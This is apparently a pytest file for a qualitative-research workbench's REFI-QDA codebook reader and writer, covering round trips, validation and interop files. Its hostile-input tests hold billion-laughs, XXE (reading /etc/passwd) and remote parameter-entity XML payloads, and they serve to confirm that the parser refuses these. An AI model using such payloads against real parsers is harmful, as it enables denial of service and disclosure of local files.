"""REFI-QDA codebook (.qdc) reading, writing, validation, and hostile-input handling."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.coding.codebook import Code, Codebook, CodeSet, new_guid
from workbench.exchange import refi_qdc
from workbench.exchange.refi_qdc import (
    compose_description,
    parse_description,
    read_qdc,
    validate_qdc,
    write_qdc,
)
from workbench.exchange.safe_xml import parse_xml_bytes, parse_xml_file
from workbench.model.errors import WorkbenchError

REPO = Path(__file__).resolve().parents[2]
COMMITTED = REPO / "codebooks" / "cosp_interview.qdc"
SHARED = Path(__file__).resolve().parents[2].parent / "shared"  # ../shared beside the checkout
INTEROP = sorted((SHARED / "interop" / "refi_qdc").rglob("*.qdc"))
NS = 'xmlns="urn:QDA-XML:codebook:1.0"'
GUID = "1FF58B12-6F6F-4B0C-8BE5-BBDC91F55294"


def rich_codebook(name: str = "book") -> Codebook:
    grandchild = Code(
        new_guid(), "Reading cues", "Noticing signals.", example='"She turns away."', colour="#E377C2"
    )
    child = Code(
        new_guid(),
        "Circle: secure base / safe haven",
        definition="Use of the Circle.\nSecond line of the definition.",
        inclusion="Top or bottom of the circle.",
        exclusion="Mentions of the graphic only.",
        example="“Top of the circle,” she said — café, Llanelli, ŵ, 👶",
        colour="#FF9896",
        children=[grandchild],
    )
    parent = Code(
        new_guid(),
        "Understanding the baby's needs",
        "Definition only.",
        colour="#D62728",
        codable=False,
        children=[child],
    )
    bare = Code(new_guid(), 'Barriers <& "quotes">')
    sets = [CodeSet(new_guid(), "Group 1", "A set", [parent.guid, bare.guid])]
    return Codebook(name, [parent, bare], origin="workbench test", sets=sets)


def files_in(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# --- description layout -------------------------------------------------------------------------


def test_description_layout():
    text = compose_description("Def.", "Inc.", "Exc.", '"Quote"')
    assert text == 'Def.\n\nInclusion: Inc.\nExclusion: Exc.\nExample: "Quote"'
    assert parse_description(text) == ("Def.", "Inc.", "Exc.", '"Quote"')


def test_description_leaves_out_empty_fields():
    assert compose_description("Only a definition") == "Only a definition"
    assert compose_description("", example="x") == "Example: x"
    assert parse_description("Example: x") == ("", "", "", "x")
    assert compose_description("", "", "", "") == ""


def test_foreign_description_becomes_definition():
    assert parse_description("description") == ("description", "", "", "")
    foreign = "Use for talk about X.\nExample: one\nExample: two"
    assert parse_description(foreign) == (foreign, "", "", "")


def test_label_lines_inside_fields_are_escaped():
    fields = ("Intro\nExample: not a label", "a\nExclusion: inside", "", "\\Inclusion: odd")
    text = compose_description(*fields)
    assert "\n\\Example: not a label" in text
    assert parse_description(text) == fields


field_text = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40
) | st.sampled_from(
    ["Example: x", "Inclusion:", "\\Exclusion: y", "a\n\nb", "\n", "Inclusion: a\nExclusion: b"]
)


@settings(max_examples=300, deadline=None)
@given(field_text, field_text, field_text, field_text)
def test_description_round_trips_any_text(definition, inclusion, exclusion, example):
    fields = (definition, inclusion, exclusion, example)
    assert parse_description(compose_description(*fields)) == fields


# --- round trip ---------------------------------------------------------------------------------


def test_write_then_read_is_equal(tmp_path):
    book = rich_codebook("book")
    target = tmp_path / "book.qdc"
    write_qdc(book, target)
    assert validate_qdc(target) == []
    assert read_qdc(target) == book
    assert files_in(tmp_path) == ["book.qdc"]  # no temporary file left behind


def test_write_is_stable(tmp_path):
    book = rich_codebook("a")
    write_qdc(book, tmp_path / "a.qdc")
    write_qdc(read_qdc(tmp_path / "a.qdc"), tmp_path / "b.qdc")
    assert (tmp_path / "a.qdc").read_bytes() == (tmp_path / "b.qdc").read_bytes()


def test_write_replaces_existing_file(tmp_path):
    target = tmp_path / "book.qdc"
    target.write_text("old")
    write_qdc(rich_codebook("book"), target)
    assert read_qdc(target).count() == 4


def test_empty_origin_is_written_as_workbench(tmp_path):
    book = Codebook("x", [Code(new_guid(), "A")])
    write_qdc(book, tmp_path / "x.qdc")
    assert read_qdc(tmp_path / "x.qdc").origin == refi_qdc.DEFAULT_ORIGIN


def test_carriage_returns_and_whitespace_survive(tmp_path):
    book = Codebook(
        "x", [Code(new_guid(), "  spaced  ", definition=" lead\r\ntrail \n", example="\tq")], origin="o"
    )
    write_qdc(book, tmp_path / "x.qdc")
    assert read_qdc(tmp_path / "x.qdc") == book


# --- refusing to write --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "book",
    [
        Codebook("bad", []),
        Codebook("bad", [Code("not-a-guid", "A")]),
        Codebook("bad", [Code(new_guid(), "A", colour="red")]),
        Codebook("bad", [Code(GUID, "A"), Code(GUID.lower(), "B")]),
        Codebook("bad", [Code(new_guid(), "A", definition="nul \x00 here")]),
        Codebook("bad", [Code(new_guid(), "A")], sets=[CodeSet("nope", "S")]),
    ],
    ids=["no codes", "bad guid", "bad colour", "duplicate guid", "control character", "bad set guid"],
)
def test_invalid_codebook_is_refused_and_nothing_written(tmp_path, book):
    target = tmp_path / "bad.qdc"
    target.write_text("previous content")
    with pytest.raises(WorkbenchError) as caught:
        write_qdc(book, target)
    assert "\n" not in str(caught.value)
    assert target.read_text() == "previous content"
    assert files_in(tmp_path) == ["bad.qdc"]


def test_missing_folder_is_a_workbench_error(tmp_path):
    with pytest.raises(WorkbenchError, match="does not exist"):
        write_qdc(rich_codebook(), tmp_path / "missing" / "x.qdc")


# --- files we ship and files other tools wrote --------------------------------------------------


def test_committed_codebook_is_valid_and_complete():
    assert validate_qdc(COMMITTED) == []
    book = read_qdc(COMMITTED)
    codes = [code for code, _parent in book.walk()]
    assert len(codes) >= 20
    assert book.duplicate_guids() == []
    assert len({c.colour for c in codes}) == len(codes)
    for code in codes:
        assert code.definition and code.inclusion and code.exclusion and code.example, code.name
    names = {c.name for c in codes}
    assert {"Peer support", "Shark music", "Reading cues", "Circle: secure base / safe haven"} <= names
    assert book.path(book.find_by_name("Reading cues")[0].guid)[0].name == "Understanding the baby's needs"


def test_committed_codebook_round_trips(tmp_path):
    book = read_qdc(COMMITTED)
    write_qdc(book, tmp_path / "cosp_interview.qdc")
    assert read_qdc(tmp_path / "cosp_interview.qdc") == book


def test_bundled_schema_is_the_standard_one():
    standard = SHARED / "refi-qda" / "Codebook.xsd"
    assert refi_qdc.SCHEMA_PATH.read_bytes() == standard.read_bytes()


@pytest.mark.parametrize("path", INTEROP, ids=[p.name for p in INTEROP])
def test_files_from_other_tools_import(path, tmp_path):
    book = read_qdc(path)
    assert book.count() >= 1
    assert book.origin
    write_qdc(book, tmp_path / path.name)  # and can be written back as a valid file
    assert read_qdc(tmp_path / path.name).codes == book.codes


def test_taguette_codebook_details():
    path = SHARED / "interop/refi_qdc/taguette1.4.1_uto_tag_codebook.qdc"
    book = read_qdc(path)
    assert book.origin == "Taguette 1.4.1"
    assert [c.name for c in book.codes] == ["xsd:element name", "CodeBook", "Variables"]
    errors = validate_qdc(path)  # its empty <Sets/> breaks the schema, but the file is readable
    assert len(errors) == 1 and "Sets" in errors[0]


def test_atlas_codebook_details():
    path = SHARED / "interop/refi_qdc/extracted_not_byte_exact/atlasti23.4win_requal_test_valid.qdc"
    book = read_qdc(path)
    code = book.codes[0]
    assert (code.name, code.colour, code.definition, code.guid) == ("code1", "#46AA00", "description", GUID)
    assert book.sets == [
        CodeSet("ECA18D76-2B8B-4F26-BC1D-19ECA19FB3F0", "code group 1", "kategorie 1", [GUID])
    ]
    assert validate_qdc(path) == []


def test_lenient_reading(tmp_path):
    text = f"""<?xml version="1.0"?>
<CodeBook {NS}><Codes>
  <Code guid="{{{GUID}}}" name="Braced" color="#abc"><Codes><Code guid="{new_guid()}" name="Wrapped" isCodable="0"/></Codes></Code>
</Codes></CodeBook>"""
    path = tmp_path / "lenient.qdc"
    path.write_text(text)
    book = read_qdc(path)
    assert book.codes[0].codable is True  # isCodable missing
    assert book.codes[0].colour == "#AABBCC"
    assert book.codes[0].children[0].codable is False
    assert book.find(GUID).name == "Braced"


# --- hostile and broken input -------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code guid="1FF58B12-6F6F-4B0C-8BE5-BBDC91F55294" name="&lol3;" isCodable="true"/></Codes></CodeBook>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE CodeBook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code guid="1FF58B12-6F6F-4B0C-8BE5-BBDC91F55294" name="x" isCodable="true"><Description>&xxe;</Description></Code></Codes></CodeBook>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CodeBook [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0"/>"""

LATIN1_DECLARED_UTF8 = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
    '<Code guid="1FF58B12-6F6F-4B0C-8BE5-BBDC91F55294" name="café" isCodable="true"/></Codes></CodeBook>'
).encode("latin-1")

HOSTILE = {
    "billion laughs": (BILLION_LAUGHS, "entity"),
    "external entity": (XXE, "external entity"),
    "parameter entity": (PARAMETER_ENTITY, "entit"),
    "malformed": (b'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes></CodeBook>', "not well-formed"),
    "wrong encoding": (LATIN1_DECLARED_UTF8, "0xE9 on line 2"),
    "unknown encoding": (b'<?xml version="1.0" encoding="klingon-8"?><CodeBook/>', "unknown text encoding"),
    "empty": (b"", "empty"),
    "whitespace only": (b"  \n\t ", "empty"),
    "binary": (b"PK\x03\x04\x00\x00\xff\xfe garbage", "not an XML file"),
    "undeclared latin-1": (
        '<CodeBook><Codes><Code name="café"/></Codes></CodeBook>'.encode("latin-1"),
        "no encoding declaration",
    ),
    "not a codebook": (
        b'<?xml version="1.0"?><Project xmlns="urn:QDA-XML:project:1.0"/>',
        "root element is <Project>",
    ),
    "no codes element": (f"<CodeBook {NS}/>".encode(), "no <Codes>"),
    "code without guid": (
        f'<CodeBook {NS}><Codes><Code name="a" isCodable="true"/></Codes></CodeBook>'.encode(),
        "no guid",
    ),
    "duplicate guid": (
        f'<CodeBook {NS}><Codes><Code guid="{GUID}" name="a"/><Code guid="{GUID.lower()}" name="b"/></Codes></CodeBook>'.encode(),
        "used twice",
    ),
    "bad isCodable": (
        f'<CodeBook {NS}><Codes><Code guid="{GUID}" name="a" isCodable="maybe"/></Codes></CodeBook>'.encode(),
        "isCodable",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_hostile_or_broken_files_raise_and_write_nothing(tmp_path, case):
    data, expected = HOSTILE[case]
    source = tmp_path / "in.qdc"
    source.write_bytes(data)
    with pytest.raises(WorkbenchError) as caught:
        write_qdc(read_qdc(source), tmp_path / "out.qdc")
    message = str(caught.value)
    assert expected in message
    assert "\n" not in message and "in.qdc" in message
    assert "root:" not in message  # nothing from /etc/passwd leaks into the message
    assert files_in(tmp_path) == ["in.qdc"]


XML_LEVEL = [
    "billion laughs",
    "external entity",
    "parameter entity",
    "malformed",
    "wrong encoding",
    "unknown encoding",
    "empty",
    "whitespace only",
    "binary",
    "undeclared latin-1",
]


@pytest.mark.parametrize("case", XML_LEVEL)
def test_validate_refuses_unsafe_or_malformed_xml(tmp_path, case):
    source = tmp_path / "in.qdc"
    source.write_bytes(HOSTILE[case][0])
    with pytest.raises(WorkbenchError):
        validate_qdc(source)


@pytest.mark.parametrize("case", ["not a codebook", "no codes element", "code without guid", "bad isCodable"])
def test_validate_lists_schema_errors(tmp_path, case):
    source = tmp_path / "in.qdc"
    source.write_bytes(HOSTILE[case][0])
    errors = validate_qdc(source)
    assert errors and all(e.startswith("line ") for e in errors)


def test_external_entity_is_never_resolved():
    with pytest.raises(WorkbenchError, match="file:///etc/passwd"):
        parse_xml_bytes(XXE, source="xxe.xml")


def test_too_large_file_is_refused(tmp_path):
    path = tmp_path / "big.qdc"
    path.write_bytes(b"<a>" + b"x" * 2000 + b"</a>")
    with pytest.raises(WorkbenchError, match="too large"):
        parse_xml_file(path, max_bytes=1000)
    with pytest.raises(WorkbenchError, match="too large"):
        parse_xml_bytes(path.read_bytes(), max_bytes=1000)
    assert parse_xml_file(path).getroot().tag == "a"


def test_missing_file_and_folder(tmp_path):
    with pytest.raises(WorkbenchError, match="does not exist"):
        read_qdc(tmp_path / "nope.qdc")
    with pytest.raises(WorkbenchError, match="folder"):
        read_qdc(tmp_path)


def test_utf16_with_bom_is_read(tmp_path):
    text = f'<?xml version="1.0" encoding="UTF-16"?><CodeBook {NS}><Codes><Code guid="{GUID}" name="naïve" isCodable="true"/></Codes></CodeBook>'
    path = tmp_path / "u16.qdc"
    path.write_bytes(text.encode("utf-16"))
    assert read_qdc(path).codes[0].name == "naïve"


def test_the_shared_codebooks_from_other_tools_are_there():
    assert len(INTEROP) >= 2, f"expected REFI-QDA codebooks under {SHARED / 'interop' / 'refi_qdc'}"
